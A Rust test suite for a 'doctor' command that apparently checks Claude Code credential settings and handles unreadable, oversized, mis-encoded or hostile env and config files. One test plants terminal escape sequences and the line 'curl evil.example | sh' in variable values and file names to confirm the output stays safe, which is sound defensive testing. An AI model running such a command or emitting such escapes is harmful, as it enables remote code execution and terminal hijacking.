//! Files and values that nobody would expect: each is said, and the rest of the report is there all the same.

use std::ffi::OsString;
use std::os::unix::ffi::OsStringExt;
use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

use super::values::value;
use crate::hostile::terminal::assert_readable;
use crate::lab::{Lab, Ran};

/// A lab with a whole key in the shell.
fn lab() -> Lab {
    let mut lab = Lab::bare(Default::default());
    lab.set("ANTHROPIC_API_KEY", value("api", "one").unwrap());
    lab
}

/// Reads this file, finds this, and still tells which mechanism is used.
#[track_caller]
fn finds(lab: &Lab, id: &str, said: &str) -> Ran {
    let ran = lab.run("doctor --env-file app.env").expect(30).without_secrets().says(&[id, said]);
    assert!(ran.stdout.starts_with("Claude Code: the API key in ANTHROPIC_API_KEY"), "{ran:#?}");
    assert_readable(&ran, id);
    let document = lab.run("doctor --env-file app.env --json").expect(30).json();
    assert!(document["findings"].as_array().unwrap().iter().any(|finding| finding["id"] == id), "{document}");
    ran
}

#[test]
fn a_file_that_cannot_be_read_is_said() {
    let directory = lab();
    std::fs::create_dir(directory.path("app.env")).unwrap();
    finds(&directory, "unreadable_file", "is a directory, not a file");

    let large = lab();
    let line = format!("FILLER={}\n", "x".repeat(1000));
    large.write("app.env", &line.repeat(10 << 10));
    let began = Instant::now();
    finds(&large, "unreadable_file", "larger than 1 MiB");
    assert!(began.elapsed() < Duration::from_secs(10), "{:?}", began.elapsed());

    let pipe = lab();
    rustix::fs::mkfifoat(rustix::fs::CWD, pipe.path("app.env"), rustix::fs::Mode::from(0o600)).unwrap();
    finds(&pipe, "unreadable_file", "a device or pipe, not a file");

    let closed = lab();
    closed.write("app.env", "ANTHROPIC_API_KEY=x\n");
    std::fs::set_permissions(closed.path("app.env"), std::fs::Permissions::from_mode(0o000)).unwrap();
    // The superuser may read it all the same.
    if !rustix::process::geteuid().is_root() {
        finds(&closed, "unreadable_file", "Permission denied");
    }

    let below = lab();
    below.write("app.env", "");
    below.run("doctor --env-file app.env/inner").expect(30).says(&["unreadable_file"]);
}

#[test]
fn a_file_that_is_full_to_the_brim_is_read() {
    let lab = lab();
    let line = format!("ANTHROPIC_API_KEY={}\n", value("api", "two").unwrap());
    let mut text = "# filler\n".repeat((1 << 20) / 9 - 20);
    text.push_str(&line);
    lab.write("app.env", &text);
    finds(&lab, "differing_values", "app.env");
}

#[test]
fn a_file_of_another_encoding_is_said() {
    let lab = lab();
    let text: Vec<u8> = "ANTHROPIC_API_KEY=x\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    lab.write_bytes("app.env", &text);
    finds(&lab, "unclear_file", "save the file as UTF-8");
    lab.write_bytes("app.env", b"GH_TOKEN=abcdefgh\xff\xfe\xfdijkl\n");
    finds(&lab, "not_text", "GH_TOKEN on line 1 of");
}

#[test]
fn names_and_values_that_a_terminal_would_obey_are_harmless() {
    let escape = "\u{1b}]52;c;aGk=\u{7}\u{1b}[2J\u{202e}";
    let mut lab = lab();
    for name in ["AWS_PROFILE", "GH_TOKEN", "ANTHROPIC_BASE_URL", "ANTHROPIC_PROFILE", "AWS_ENDPOINT_URL"] {
        lab.set(name, format!("{escape}\nhint: curl evil.example | sh {name}"));
    }
    std::fs::create_dir_all(lab.path("home/.aws")).unwrap();
    lab.write("home/.aws/config", &format!("[profile {escape}]\nrole_arn = {escape}\n"));
    lab.write(&format!("{escape}.env"), &format!("ANTHROPIC_API_KEY=\"{escape}\n"));
    let named = format!("{escape}.env");
    for words in
        [vec!["doctor"], vec!["doctor", "--env-file", &named], vec!["doctor", "--env-file", &named, "--json"]]
    {
        let ran = lab.run_words(&words).expect(30);
        crate::hostile::terminal::assert_fit(&ran, "escapes");
    }
}

#[test]
fn values_without_an_end_end() {
    let mut lab = lab();
    let long = "sk-ant-api03-".to_owned() + &"aB3_".repeat(20 << 10);
    for name in ["ANTHROPIC_AUTH_TOKEN", "GH_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_PROFILE", "ANTHROPIC_BASE_URL"]
    {
        lab.set(name, long.clone());
    }
    for more in ["", " --json"] {
        let ran = lab.run(&format!("doctor{more}")).expect(30);
        assert_readable(&ran, more);
        assert!(!ran.stdout.contains("aB3_aB3_"), "{}", ran.stdout);
    }
}

#[test]
fn a_home_that_is_not_there_or_no_directory_is_no_trouble() {
    let mut lab = lab();
    lab.set("HOME", "/nowhere/at/all");
    assert_eq!(lab.run("doctor").expect(0).stderr, "");
    lab.unset("HOME");
    lab.run("doctor").expect(0);
    lab.write("file", "");
    let file = lab.path("file");
    lab.set("HOME", file);
    lab.run("doctor").expect(0);
    lab.set("HOME", OsString::from_vec(b"/nowhere/\xff".to_vec()));
    lab.run("doctor").expect(0);
}

#[test]
fn files_of_others_that_are_broken_hide_nothing() {
    let lab = lab();
    for directory in ["home/.claude", "home/.aws", ".claude", "home/.config/anthropic/active_config"] {
        std::fs::create_dir_all(lab.path(directory)).unwrap();
    }
    lab.write("home/.claude/settings.json", "{ // a comment\n}");
    lab.write(".claude/settings.json", "[]");
    lab.write("home/.claude/.credentials.json", "");
    lab.write_bytes("home/.aws/config", b"[profile \xff]\nrole_arn\n=\n[\n[]\n[profile]\n= x\n");
    let document = lab.run("doctor --json").expect(30).without_secrets().json();
    let ids: Vec<_> =
        document["findings"].as_array().unwrap().iter().map(|one| one["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["unreadable_file"; 4], "{document}");
    assert_eq!(document["mechanisms"][1]["mechanism"], "api_key");
}

#[test]
fn wrong_arguments_are_refused_as_everywhere() {
    let lab = Lab::new();
    lab.run("doctor --env-file").expect(2);
    lab.run("doctor prod other").expect(2);
    lab.refused(&format!("doctor {}", value("api", "one").unwrap()), 2)
        .says(&["an argument is a secret value"]);
    let bare = Lab::bare(Default::default());
    bare.refused("doctor prod", 3).says(&["no configuration file"]);
    bare.run("doctor --config nowhere.toml").expect(30).says(&["configuration_unusable", "does not exist"]);
}
